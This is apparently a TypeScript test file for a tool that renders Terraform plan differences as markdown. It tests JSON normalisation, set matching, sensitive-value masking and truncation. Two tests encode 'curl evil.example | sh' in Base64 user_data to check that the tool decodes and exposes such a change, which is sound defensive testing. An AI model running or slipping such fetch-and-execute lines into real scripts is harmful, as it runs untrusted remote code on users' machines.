import test from "ava";
import { differences } from "../../../tools/review/differences.ts";
import { changeLines } from "../../../tools/review/markdown/changes.ts";
import { markdown } from "../../../tools/review/markdown/fit.ts";
import { sidesOf } from "../../../tools/review/sides.ts";
import { at } from "../../../tools/review/values/value.ts";
import { reviewOfResources } from "./plan-parts.ts";

const DETAIL = { values: 60, lines: 100 };

type Case = [before: object, after: object, lines: readonly string[]];

const CASES: Readonly<Record<string, Case>> = {
  "a plain value": [{ a: 1, b: 2 }, { a: 1, b: 3 }, ["! b: 2 → 3"]],
  "an unset string of a block in another notation, beside a difference": [
    { a: null, b: "", block: [{ c: "" }], d: 1 },
    { a: "", b: null, block: [{ c: null }], d: 2 },
    ["! d: 1 → 2"],
  ],
  "an unset string of a block in another notation, alone": [
    { a: null, b: "", block: [{ c: "" }], e: null },
    { a: "", b: null, block: [{ c: null }] },
    ['! a: null → ""', '! b: "" → null', '! block.c: "" → null'],
  ],
  "empty values that appear, disappear, or change beside a difference": [
    { a: null, b: [], c: {}, d: 1, e: [], map: { a: "", b: [], c: null } },
    { a: [], b: null, c: null, d: 2, e: {}, map: { a: null, d: {}, e: "" } },
    [
      "! a: null → []",
      "! b: [] → null",
      "! c: {} → null",
      "! d: 1 → 2",
      "! e: [] → {}",
      '! map.a: "" → null',
      "- map.b: []",
      "- map.c: null",
      "+ map.d: {}",
      '+ map.e: ""',
    ],
  ],
  "a property of JSON that is null or missing": [
    { policy: '{"a": null, "b": {}}' },
    { policy: '{"b": {}}' },
    ["- policy.a: null"],
  ],
  "characters that look alike": [
    { a: "a b", b: "\u00e9", c: "\u00e9\nd\n" },
    { a: "a\u00a0b", b: "e\u0301", c: "e\u0301\nd\n" },
    ['! a: "a b" → "a\\u{a0}b"', '! b: "\\u{e9}" → "e\\u{301}"', "! c:", "-   \\u{e9}", "+   e\\u{301}", "    d"],
  ],
  "JSON is compared by content, not by spaces and order": [
    { policy: '{"A": 1, "B": [1, 2]}' },
    { policy: '{"B":[1,2],"A":1}' },
    [],
  ],
  "JSON inside JSON": [
    { body: JSON.stringify({ inner: JSON.stringify({ a: 1 }) }) },
    { body: JSON.stringify({ inner: JSON.stringify({ a: 2 }) }) },
    ["! body.inner.a: 1 → 2"],
  ],
  "elements are matched by name at any position": [
    {
      containers: JSON.stringify([
        { name: "a", cpu: 1 },
        { name: "b", cpu: 1 },
      ]),
    },
    {
      containers: JSON.stringify([
        { name: "b", cpu: 2 },
        { name: "a", cpu: 1 },
      ]),
    },
    ["! containers[b].cpu: 1 → 2", '! containers (order): ["a", "b"] → ["b", "a"]'],
  ],
  "elements that change in their places": [
    {
      stage: [
        { name: "a", owner: 1 },
        { name: "b", owner: 1 },
        { name: "c", owner: 1 },
      ],
    },
    {
      stage: [
        { name: "a", owner: 2 },
        { name: "c", owner: 2 },
      ],
    },
    ["! stage[a].owner: 1 → 2", "! stage[c].owner: 1 → 2", '- stage[b]: {"name": "b", "owner": 1}'],
  ],
  "an element that takes the place of another one": [
    {
      containers: JSON.stringify([
        {
          environment: [
            { name: "X", value: "1" },
            { name: "Y", value: "2" },
          ],
        },
      ]),
    },
    {
      containers: JSON.stringify([
        {
          environment: [
            { name: "Y", value: "2" },
            { name: "Z", value: "3" },
          ],
        },
      ]),
    },
    [
      '- containers.environment[X]: {"name": "X", "value": "1"}',
      '+ containers.environment[Z]: {"name": "Z", "value": "3"}',
    ],
  ],
  "an element that gets another name": [
    { stage: [{ name: "X", owner: 1, size: 2 }, { name: "Y" }] },
    { stage: [{ name: "Z", owner: 1, size: 2 }, { name: "Y" }] },
    ['! stage[Z].name: "X" → "Z"'],
  ],
  "an element that moves and changes at once": [
    {
      ordered_cache_behavior: [
        { path_pattern: "/a", ttl: 1 },
        { path_pattern: "/b", ttl: 1 },
      ],
    },
    {
      ordered_cache_behavior: [
        { path_pattern: "/b", ttl: 2 },
        { path_pattern: "/a", ttl: 2 },
      ],
    },
    [
      "! ordered_cache_behavior[/a].ttl: 1 → 2",
      "! ordered_cache_behavior[/b].ttl: 1 → 2",
      '! ordered_cache_behavior (order): ["/a", "/b"] → ["/b", "/a"]',
    ],
  ],
  "an element of a set, which Terraform sorts by content": [
    {
      rule: [
        { action: "allow", name: "a" },
        { action: "block", name: "b" },
      ],
    },
    {
      rule: [
        { action: "block", name: "b" },
        { action: "count", name: "a" },
      ],
    },
    ['! rule[a].action: "allow" → "count"'],
  ],
  "elements without names are matched by content": [
    {
      rules: [
        { port: 80, from: "a", to: "x" },
        { port: 443, from: "a", to: "x" },
      ],
    },
    {
      rules: [
        { port: 443, from: "b", to: "x" },
        { port: 80, from: "a", to: "x" },
      ],
    },
    ['! rules[0].from: "a" → "b"'],
  ],
  "an added and a removed element": [
    { subnets: ["a", "b"] },
    { subnets: ["b", "c"] },
    ['- subnets[]: "a"', '+ subnets[]: "c"'],
  ],
  "only the order": [{ list: ["a", "b"] }, { list: ["b", "a"] }, ['! list (order): ["a", "b"] → ["b", "a"]']],
  "a changed order and an added element": [
    { behaviors: [{ path_pattern: "/a" }, { path_pattern: "/b" }] },
    { behaviors: [{ path_pattern: "/b" }, { path_pattern: "/a" }, { path_pattern: "/c" }] },
    ['+ behaviors[/c]: {"path_pattern": "/c"}', '! behaviors (order): ["/a", "/b"] → ["/b", "/a", "/c"]'],
  ],
  "a command as a whole": [
    { command: ["a", "b"] },
    { command: ["b", "a", "c"] },
    ['! command: ["a", "b"] → ["b", "a", "c"]'],
  ],
  "actions of a policy, whose order does not count": [
    { policy: '{"Statement":[{"Sid":"a","Action":["b","c"]}]}' },
    { policy: '{"Statement":[{"Sid":"a","Action":["c","b","d"]}]}' },
    ['+ policy.Statement.Action[]: "d"'],
  ],
  "values of a policy's condition, whose order does not count": [
    { policy: '{"Statement":[{"Sid":"a","Condition":{"StringEquals":{"a.example:sub":["b","c"]}}}]}' },
    { policy: '{"Statement":[{"Sid":"a","Condition":{"StringEquals":{"a.example:sub":["c","b","d"]}}}]}' },
    ['+ policy.Statement.Condition.StringEquals."a.example:sub"[]: "d"'],
  ],
  "changed lines of a script": [
    { script: "one\ntwo\nthree\nfour\nfive\nsix\n" },
    { script: "ONE\ntwo\nthree\nfour\nfive\nSIX\n" },
    ["! script:", "-   one", "+   ONE", "    two", "    …", "    five", "-   six", "+   SIX"],
  ],
  "changed lines of a text in a list": [
    { values: ["a: 1\nb: 1\n", "tag: 1\nsize: 2\nname: x\n"] },
    { values: ["a: 1\nb: 1\n", "tag: 2\nsize: 2\nname: x\n"] },
    ["! values[]:", "-   tag: 1", "+   tag: 2", "    size: 2"],
  ],
  "integers that a double cannot hold": [
    JSON.parse('{"a": 1, "big": "12345678901234567890"}'),
    { a: 1, big: 12345678901234567891n },
    ['! big: "12345678901234567890" → 12345678901234567891'],
  ],
  "digits of a fraction that a double cannot hold": [
    { json: "[0.12345678901234567890, 1.5]" },
    { json: "[0.12345678901234567891, 1.5]" },
    ["- json[]: 0.1234567890123456789", "+ json[]: 0.12345678901234567891"],
  ],
  "numbers beyond the range of a double": [
    { json: '{"a": 1e400, "b": -1e-400, "c": 1e99999, "d": 12345678.123456789012}' },
    { json: '{"a": 1e401, "b": 0, "c": 1e99998, "d": 12345678.123456789013}' },
    [
      "! json.a: 1e+400 → 1e+401",
      "! json.b: -1e-400 → 0",
      "! json.c: 1e+99999 → 1e+99998",
      "! json.d: 12345678.123456789012 → 12345678.123456789013",
    ],
  ],
  "other notations for a number": [
    { json: '{"a": 1.0, "b": 1e23, "c": 0.12345678901234567890, "d": 1e400, "e": -0, "f": 1.50}' },
    { json: '{"a": 1, "b": 100000000000000000000000, "c": 1.2345678901234567890e-1, "d": 10e399, "e": 0, "f": 1.5}' },
    [],
  ],
  "equal numbers with many digits, at other positions": [
    { json: "[0.12345678901234567890, 1]" },
    { json: "[1, 0.12345678901234567890]" },
    ["! json (order): [0.1234567890123456789, 1] → [1, 0.1234567890123456789]"],
  ],
  "empty elements": [
    { a: [""], b: [null, "a"], c: [{}, { x: 1 }], d: [[], [1]], e: ["x", ""] },
    { a: ["", ""], b: ["a"], c: [{ x: 1 }], d: [[1]], e: ["x", null] },
    ['+ a[]: ""', "- b[]: null", "- c[0]: {}", "- d[0]: []", '- e[]: ""', "+ e[]: null"],
  ],
  "an empty list and one with an empty element": [{ a: [] }, { a: [""] }, ['! a: [] → [""]']],
  "entries of a map with empty values": [
    { tags: { a: "x", b: "" }, options: '{"a": "x"}' },
    { tags: { a: "x" }, options: '{"a": "x", "b": ""}' },
    ['- tags.b: ""', '+ options.b: ""'],
  ],
  "empty lists of a container, which ECS adds, beside a difference": [
    { container_definitions: '[{"name":"a","cpu":1,"environment":[],"mountPoints":[],"healthCheck":{"command":[]}}]' },
    { container_definitions: '[{"name":"a","cpu":2,"healthCheck":{}}]' },
    ["! container_definitions.cpu: 1 → 2", "- container_definitions.healthCheck.command: []"],
  ],
  "empty lists of a container alone": [
    { container_definitions: '[{"name":"a","environment":[]}]' },
    { container_definitions: '[{"name":"a"}]' },
    ["- container_definitions.environment: []"],
  ],
  "empty fields of JSON beside a difference": [
    { json: '{"a": 1, "b": "", "c": null, "d": []}' },
    { json: '{"a": 2, "e": {}}' },
    ["! json.a: 1 → 2", '- json.b: ""', "- json.c: null", "- json.d: []", "+ json.e: {}"],
  ],
  "values of other types": [
    { a: true, b: 1, c: "", d: ["1", true] },
    { a: "true", b: "1", c: false, d: [1, "true"] },
    ['! a: true → "true"', '! b: 1 → "1"', '! c: "" → false', '- d[]: "1"', "- d[]: true", "+ d[]: 1", '+ d[]: "true"'],
  ],
  "lists of lists": [{ a: [[1, 2], [3]] }, { a: [[3], [1, 2]] }, ["! a (order): [[1, 2], [3]] → [[3], [1, 2]]"]],
  "the same JSON twice in a list": [
    { a: ['{"x": 1, "y": 1}', '{"x": 1, "y": 1}'] },
    { a: ['{"x": 1, "y": 2}', '{"x": 1, "y": 3}'] },
    ["! a[0].y: 1 → 2", "! a[1].y: 1 → 3"],
  ],
  "a block that occurs once": [
    { logging: [{ enabled: true }] },
    { logging: [{ enabled: false }] },
    ["! logging.enabled: true → false"],
  ],
  "an element of a set without a name, as a whole and without its position": [
    {
      ingress: [
        { from_port: 22, cidr: "10.0.0.0/8", self: false },
        { from_port: 443, cidr: "0.0.0.0/0", self: false },
      ],
    },
    {
      ingress: [
        { from_port: 443, cidr: "0.0.0.0/0", self: false },
        { from_port: 22, cidr: "10.1.0.0/16", self: false },
      ],
    },
    [
      "! ingress[]:",
      '-   {"from_port": 22, "cidr": "10.0.0.0/8", "self": false}',
      '+   {"from_port": 22, "cidr": "10.1.0.0/16", "self": false}',
    ],
  ],
  "elements of a set that have only unset fields in common": [
    { egress: [{ port: 22, cidr: "a", self: false, groups: [] }] },
    { egress: [{ port: 80, cidr: "b", self: false, groups: [] }] },
    [
      '- egress[]: {"port": 22, "cidr": "a", "self": false, "groups": []}',
      '+ egress[]: {"port": 80, "cidr": "b", "self": false, "groups": []}',
    ],
  ],
  "an element of a set that changes, and with it its position": [
    {
      origin: [
        { origin_id: "a", domain_name: "a.example" },
        { origin_id: "b", domain_name: "b.example" },
      ],
    },
    {
      origin: [
        { origin_id: "b", domain_name: "b.example" },
        { origin_id: "a", domain_name: "c.example" },
      ],
    },
    ['! origin[a].domain_name: "a.example" → "c.example"'],
  ],
  "a change far into a long element of a set": [
    { route: [{ prefix: "x".repeat(90), cidr: "10.0.0.0/8" }, { cidr: "c" }] },
    { route: [{ prefix: "x".repeat(90), cidr: "10.1.0.0/8" }, { cidr: "c" }] },
    ['! route[]: …xxxxxxxxxxxxxxx", "cidr": "10.0.0.0/8"} → …xxxxxxxxxxxxxxx", "cidr": "10.1.0.0/8"}'],
  ],
  "a name with dots": [{ tags: { "a.b c": 1 } }, { tags: { "a.b c": 2 } }, ['! tags."a.b c": 1 → 2']],
  "names that have a meaning in JavaScript": [
    JSON.parse('{"m": {"__proto__": 1, "constructor": 1}}'),
    JSON.parse('{"m": {"__proto__": 2, "constructor": 1}}'),
    ["! m.__proto__: 1 → 2"],
  ],
  "a long value that changes at both ends": [
    { script: `a1${"x".repeat(500)}b1` },
    { script: `a2${"x".repeat(500)}b2` },
    [
      "! script:",
      `-   "a1${"x".repeat(27)}… (506 characters) …${"x".repeat(27)}b1"`,
      `+   "a2${"x".repeat(27)}… (506 characters) …${"x".repeat(27)}b2"`,
    ],
  ],
  "long lines around their difference": [
    { script: `a\n${"x".repeat(500)}old\n` },
    { script: `a\n${"x".repeat(500)}new\n` },
    ["! script:", "    a", `-   …${"x".repeat(30)}old`, `+   …${"x".repeat(30)}new`],
  ],
  "long lines around their difference, without a line in common": [
    { script: `a\n${"x".repeat(500)}old` },
    { script: `b\n${"x".repeat(500)}new` },
    [
      "! script:",
      "-   a",
      "+   b",
      `-   …${"x".repeat(30)}old`,
      `+   …${"x".repeat(30)}new`,
      "     No newline at end of file",
      "     No newline at end of file",
    ],
  ],
  "long values around their difference": [
    { script: `${"x".repeat(500)}old${"y".repeat(500)}` },
    { script: `${"x".repeat(500)}new${"y".repeat(500)}` },
    [
      "! script:",
      `-   …${"x".repeat(30)}old${"y".repeat(27)}… (534 characters)`,
      `+   …${"x".repeat(30)}new${"y".repeat(27)}… (534 characters)`,
    ],
  ],
};

for (const [title, [before, after, lines]] of Object.entries(CASES)) {
  test(title, (t) => {
    t.deepEqual(linesOf(before, after), [...lines].sort());
  });
}

test("created and destroyed resources list the attributes that are set", (t) => {
  const thing = { name: "a", tags: {}, text: "", count: 0, policy: '{"a":1}' };
  t.deepEqual(linesOf(undefined, thing), ["+ count: 0", '+ name: "a"', '+ policy: {"a": 1}'].toSorted());
  t.deepEqual(linesOf(thing, undefined), ["- count: 0", '- name: "a"', '- policy: {"a": 1}'].toSorted());
});

test("created resources also list empty lists and maps that the code sets", (t) => {
  const after = { egress: [], ingress: [], name: "", tags: {} };
  const found = differences({ before: undefined, after, configured: { attributes: ["egress", "name", "tags"] } });
  t.deepEqual(
    found.map(({ path }) => path),
    ["egress", "tags"],
  );
});

test("JSON that is nested too deeply for recursive functions is a text", (t) => {
  const nested = (value: number) => `${"[".repeat(5000)}${value}${"]".repeat(5000)}`;
  const [before, after] = [nested(1), nested(2)];
  const sides = sidesOf({ before: { json: before }, after: { json: after } }, () => {});
  t.deepEqual(differences(sides), [{ path: "json", before, after }]);
});

test("maps may have the names of JavaScript's own functions as keys", (t) => {
  const names = ["toString", "valueOf", "toJSON", "constructor", "hasOwnProperty", "then"];
  const map = (value: unknown) => Object.fromEntries(names.map((name) => [name, value]));
  for (const mask of [{}, { tags: { other: true } }]) {
    const { before, after } = sidesOf(
      { before: { tags: map("a") }, after: { tags: map("b") }, before_sensitive: mask, after_sensitive: mask },
      () => {},
    );
    t.is(`${at(before, "tags")}`, "[object Object]");
    t.deepEqual(
      differences({ before, after }).map(({ path }) => path),
      names.map((name) => `tags.${name}`).sort(),
    );
  }
});

test("unknown and sensitive parts are marked at any depth", (t) => {
  const sides = sidesOf(
    {
      before: { password: "one", list: [{ name: "a", value: "1" }] },
      after: { password: "two", list: [{ name: "a" }] },
      after_unknown: { list: [{ value: true }] },
      before_sensitive: { password: true },
      after_sensitive: { password: true },
    },
    () => {},
  );
  t.deepEqual(changeLines({ differences: differences(sides), replacedBy: ["password"], knownAfterApply: [] }, DETAIL), [
    '! list[a].value: "1" → (known after apply)',
    "! password: (sensitive), changes  (forces the replacement)",
  ]);
});

test("sensitive arguments that are not set are not shown as hidden values", (t) => {
  const mask = { added: true, removed: true, unset: true, write_only: true };
  const before = { added: null, removed: "two", unset: null, write_only: null };
  const after = { added: "one", removed: null, unset: null, write_only: null };
  const sides = sidesOf({ before, after, before_sensitive: mask, after_sensitive: mask }, () => {});
  const lines = (both: Parameters<typeof differences>[0]) =>
    changeLines({ differences: differences(both), replacedBy: [], knownAfterApply: [] }, DETAIL);
  t.deepEqual(lines(sides), ["! added: null → (sensitive)", "! removed: (sensitive) → null"]);
  t.deepEqual(lines({ before: undefined, after: sides.after, configured: { attributes: ["added", "write_only"] } }), [
    "+ added: (sensitive)",
    "+ write_only: (sensitive)",
  ]);
});

test("a resource that is sensitive as a whole is named as such", (t) => {
  const sides = sidesOf(
    { before: { input: "one" }, after: { input: "two" }, before_sensitive: true, after_sensitive: true },
    () => {},
  );
  t.deepEqual(changeLines({ differences: differences(sides), replacedBy: [], knownAfterApply: [] }, DETAIL), [
    "! the whole resource: (sensitive), changes",
  ]);
});

test("scripts in Base64 are compared line by line", (t) => {
  const scriptOf = (line: string) => Buffer.from(`#!/bin/sh\n${line}\necho done\n`).toString("base64");
  t.deepEqual(
    linesOf({ user_data: scriptOf("curl good.example | sh") }, { user_data: scriptOf("curl evil.example | sh") }),
    [
      "! user_data, decoded from Base64:",
      "    #!/bin/sh",
      "-   curl good.example | sh",
      "+   curl evil.example | sh",
      "    echo done",
    ].toSorted(),
  );
});

test("scripts in Base64 that are added, removed, or short are decoded", (t) => {
  const script = Buffer.from("#!/bin/sh\ncurl good.example | sh\n").toString("base64");
  const [was, is] = ["good", "evil"].map((host) => Buffer.from(`curl ${host}.example | sh`).toString("base64"));
  const decoded = String.raw`"#!/bin/sh\ncurl good.example | sh\n"`;
  t.deepEqual(linesOf(undefined, { user_data: script }), [`+ user_data, decoded from Base64: ${decoded}`]);
  t.deepEqual(linesOf({ user_data: script }, { user_data: null }), [
    `! user_data, decoded from Base64: ${decoded} → null`,
  ]);
  t.deepEqual(linesOf({ user_data: was }, { user_data: is }), [
    '! user_data, decoded from Base64: "curl good.example | sh" → "curl evil.example | sh"',
  ]);
});

function linesOf(before: object | undefined, after: object | undefined): readonly string[] {
  const sides = sidesOf({ before: before ?? null, after: after ?? null }, () => {});
  return changeLines({ differences: differences(sides), replacedBy: [], knownAfterApply: [] }, DETAIL).toSorted();
}

test("a new resource that is hidden or unknown as a whole is shown as such", async (t) => {
  const page = markdown(
    await reviewOfResources(
      { type: "aws_ssm_parameter", after: { name: "a", value: "hunter22" }, sensitive: true },
      { type: "aws_sqs_queue", unknown: true, actions: ["create"] },
    ),
  );
  t.true(page.includes("+ the whole resource: (sensitive)\n"));
  t.true(page.includes("+ the whole resource: (known after apply)\n"));
});

test("marks as sensitive that are added or removed", async (t) => {
  const [before, after] = [
    { kept: "secret-1", lifted: "secret-2", block: [{ now: "secret-3" }], both: "secret-4", list: ["secret-5", "b"] },
    { kept: "secret-1", lifted: "secret-2", block: [{ now: "secret-3" }], both: "other-4", list: ["b", "secret-5"] },
  ];
  const page = markdown(
    await reviewOfResources({
      type: "aws_x",
      before,
      after,
      wasSensitive: { kept: true, lifted: true, both: true, list: [true, false] },
      sensitive: { kept: true, block: [{ now: true }], list: [false, true] },
    }),
  );
  t.deepEqual(page.match(/^! .*$/gm), [
    "! both: (sensitive), changes, and is no longer marked as sensitive",
    "! list[0]: (sensitive), changes",
    "! list[1]: (sensitive), changes",
    "! lifted: (sensitive), is no longer marked as sensitive",
    "! block.now: (sensitive), becomes sensitive",
  ]);
});

test("an attribute that the code does not set and that forces the replacement", async (t) => {
  const page = markdown(
    await reviewOfResources({
      type: "aws_x",
      before: { zone: "a", arn: "b" },
      after: {},
      unknown: { zone: true, arn: true },
      actions: ["delete", "create"],
      replaced: ["zone"],
    }),
  );
  t.regex(page, /^ {2}known after apply: arn, zone \(forces the replacement\)$/m);
});

test("a long difference is not cut inside of a character", async (t) => {
  const before = { s: `${"a".repeat(50)}${"😀".repeat(200)}b` };
  const after = { s: `c${"a".repeat(49)}${"😀".repeat(199)}zb` };
  const page = markdown(await reviewOfResources({ type: "aws_x", before, after }));
  t.regex(page, /a😀+… \(453 characters\) …😀+b"/u);
});

test("a long script of which every line changes, such as its line ends, is compared line by line", async (t) => {
  const scriptWith = (end: string) => Array.from({ length: 1_200 }, (_, line) => `echo ${line}${end}`).join("");
  const script = (end: string) => ({ script: scriptWith(end) });
  const page = markdown(await reviewOfResources({ type: "aws_x", before: script("\r\n"), after: script("\n") }));
  t.regex(page, /^! script:\n- {3}echo 0\\r\n- {3}echo 1\\r$/m);
});
